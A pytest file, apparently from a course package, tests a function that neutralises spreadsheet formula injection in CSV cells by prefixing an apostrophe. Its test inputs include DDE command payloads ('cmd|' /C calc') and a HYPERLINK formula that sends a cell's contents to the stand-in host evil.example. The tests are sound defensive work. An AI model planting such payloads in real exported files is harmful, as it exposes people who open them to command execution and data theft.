"""Cells that a spreadsheet would compute."""

import csv
import io

import pytest

from tfcourse.data.table.files.formulas import as_text, without_apostrophe

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+cmd",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "'=1",
    "''=1",
    "=1\n=2",
    "-x",
    "+49 170",
]
PLAIN = [
    *("", "a", "a=1", "'", "'tis", "''", "1-2", " =", "-", "=", "+", "x'=1"),
    *("-5", "+3", "-1.5e-3", "-.5", "-1,5", "-5%", "-inf", "+nan", "-1.234,5"),
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_text(cell):
    assert as_text(cell) == "'" + cell


@pytest.mark.parametrize("cell", PLAIN)
def test_other_text_and_numbers_stay(cell):
    assert as_text(cell) == cell


@pytest.mark.parametrize("cell", [-1.5, -1, None, float("-inf"), True])
def test_what_is_no_text_stays(cell):
    assert as_text(cell) is cell


@pytest.mark.parametrize("cell", FORMULAS + PLAIN)
def test_text_comes_back(cell):
    file = io.StringIO()
    csv.writer(file).writerow([as_text(cell), "end"])
    file.seek(0)

    assert without_apostrophe(next(csv.reader(file))[0]) == cell
